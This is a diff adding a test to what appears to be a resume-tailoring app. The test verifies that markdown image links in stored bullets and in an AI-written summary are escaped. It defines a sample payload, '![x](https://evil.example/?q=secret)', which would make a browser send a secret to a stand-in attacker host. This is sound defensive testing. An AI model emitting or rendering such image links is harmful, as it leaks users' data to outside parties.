@@ -103,3 +103,24 @@ def test_a_model_returning_bad_ids_cannot_change_the_text(store):
     assert any("unknown or repeated" in w.value for w in at.warning)
     bullets = [line.item_id for line in at.session_state["tailored"].lines()]
     assert bullets.count("acc-n1") == 1
+
+
+IMAGE = "![x](https://evil.example/?q=secret)"
+
+
+def test_bank_and_model_text_is_shown_as_text_never_as_an_image(workspace):
+    """A bullet or an AI summary holding ![](url) would make the browser fetch the URL: it is escaped."""
+    from ui.markdown import escape_markdown
+
+    bank = make_bank()
+    bank.jobs[0].accomplishments[1].text = f"Wrote Terraform modules used by 12 teams {IMAGE}"
+    store = open_store("local", str(workspace))
+    store.save_bank(bank, None)
+    store.save_posting(make_posting(), None)
+    at = tailored(FakeEngine(extract=[SelectReply.model_validate({"items": []}),
+                                      SummaryReply(summary=f"Platform engineer at Google {IMAGE}")]))
+    assert not at.exception
+    shown = [m.value for m in [*at.markdown, *at.warning]]
+    assert not any("![x](" in text for text in shown), [t for t in shown if "![x](" in t]
+    assert any(escape_markdown(bank.jobs[0].accomplishments[1].text) in text for text in shown)  # review bullet
+    assert any(escape_markdown(IMAGE) in w.value for w in at.warning)  # the AI's suggested summary, flagged
